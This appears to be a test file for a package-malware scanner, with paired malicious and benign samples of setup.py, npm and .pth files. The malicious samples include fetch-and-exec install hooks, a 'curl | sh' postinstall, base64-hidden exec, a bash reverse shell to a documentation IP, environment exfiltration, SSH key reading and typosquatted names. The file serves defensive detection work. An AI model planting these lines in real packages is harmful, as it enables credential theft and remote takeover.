"""Packages: what runs when they are installed, imported, or Python starts; and names that imitate."""

# ruff: noqa: E501  a row of a table is one line

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from lazaretto.analysis.cage.host import Cage, sheet
from lazaretto.analysis.engine import Finding, Subject
from lazaretto.analysis.engines import packages
from lazaretto.analysis.engines.packages import near
from lazaretto.analysis.findings import load_meanings
from lazaretto.analysis.formats.types import of

MEANINGS = load_meanings(Path(__file__).parents[3] / "catalogue").by_id
HIDDEN = base64.b64encode(b"print('a marker of a test')").decode()


def ids(name: str, text: str) -> set[str]:
    found = packages.examine(Subject(data=text.encode(), name=name, kind=of("python")))
    return {one.id for one in found if isinstance(one, Finding)}


def npm(**fields: object) -> str:
    return json.dumps({"name": "a-package-of-a-test", "version": "1.0.0", **fields})


SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        {}\nsetup(name='x', cmdclass={{'install': I}})\n"
CASES: list[tuple[str, str, str, str]] = [
    ("package-runs-fetched-code-at-install", "x/setup.py", SETUP.format("exec(__import__('urllib.request').request.urlopen('https://example.org').read()) if 0 else exec(__import__('requests').get('https://example.org').text)"), SETUP.format("os.system('make')")),
    ("package-runs-fetched-code-at-install", "package/package.json", npm(scripts={"postinstall": "curl https://example.org | sh"}), npm(scripts={"postinstall": "node-gyp rebuild"})),
    ("package-runs-fetched-code-at-import", "x/__init__.py", "import requests\nexec(requests.get('https://example.org/x').text)", "import requests\ndef f():\n    return requests.get('https://example.org/x').text\n"),
    ("package-runs-hidden-code-at-install", "setup.py", f"import base64\nexec(base64.b64decode('{HIDDEN}'))", "exec(open('x/version.py').read())\n"),
    ("package-runs-hidden-code-at-import", "x/__init__.py", f"import base64\nexec(base64.b64decode('{HIDDEN}'))", "from .core import a\n__version__ = '1.0'\n__all__ = ['a']\n"),
    ("package-acts-at-every-start", "x.pth", "import os; os.system('id')", "import os; var = 'X'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim()"),
    ("package-sends-environment", "setup.py", SETUP.format("__import__('requests').post('https://example.org', json=dict(os.environ)) if 0 else __import__('requests').post('https://example.org', data=os.environ)"), SETUP.format("print(os.environ.get('CC'))")),
    ("package-changes-machine-at-install", "setup.py", SETUP.format("os.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')"), SETUP.format("os.system('cmake .')")),
    ("package-reads-secrets", "setup.py", SETUP.format("open('/root/.ssh/id_rsa').read()"), SETUP.format("open('README.md').read()")),
    ("package-uses-network-at-install", "setup.py", "import urllib.request\nurllib.request.urlretrieve('https://example.org/a.tgz', 'a.tgz')", SETUP.format("pass")),
    ("package-name-imitates", "PKG-INFO", "Metadata-Version: 2.1\nName: reqeusts\n", "Metadata-Version: 2.1\nName: requests\n"),
    ("package-name-imitates", "package.json", npm(name="expresss"), npm(name="express")),
]  # fmt: skip


@pytest.mark.parametrize(("id_", "name", "bad", "good"), CASES, ids=[f"{c[0]}-{n}" for n, c in enumerate(CASES)])
def test_finding(id_: str, name: str, bad: str, good: str) -> None:
    assert id_ in ids(name, bad)
    assert id_ not in ids(name, good)


def test_every_finding_has_a_case() -> None:
    assert {name for name in MEANINGS if name.startswith("package-")} == {case[0] for case in CASES}


@pytest.mark.parametrize(
    ("a", "b", "alike"),
    [("lodash", "lodahs", True), ("lodash", "lodas", True), ("lodash", "lodashs", True), ("lodash", "lodosh", True),
     ("node-fetch", "nodefetch", True), ("lodash", "ladosh", False), ("lodash", "express", False)],
)  # fmt: skip
def test_names_that_are_near(a: str, b: str, alike: bool) -> None:
    assert near(a, b) is alike


@pytest.mark.parametrize(
    "text", ["", "{", "[]", "null", '{"scripts": 1}', '{"scripts": {"install": 1}, "name": []}', "[" * 5000]
)
def test_odd_package_files_end(text: str) -> None:
    assert ids("package.json", text) == set()


def test_in_the_cage() -> None:
    with Cage(at_once=1) as cage, sheet(CASES[3][2].encode()) as fd:
        done = cage.run(packages.ENGINE, fd, name="setup.py", kind=of("python"))
    assert not done.failed, done.detail
    assert "package-runs-hidden-code-at-install" in {one.id for one in done.outputs if isinstance(one, Finding)}
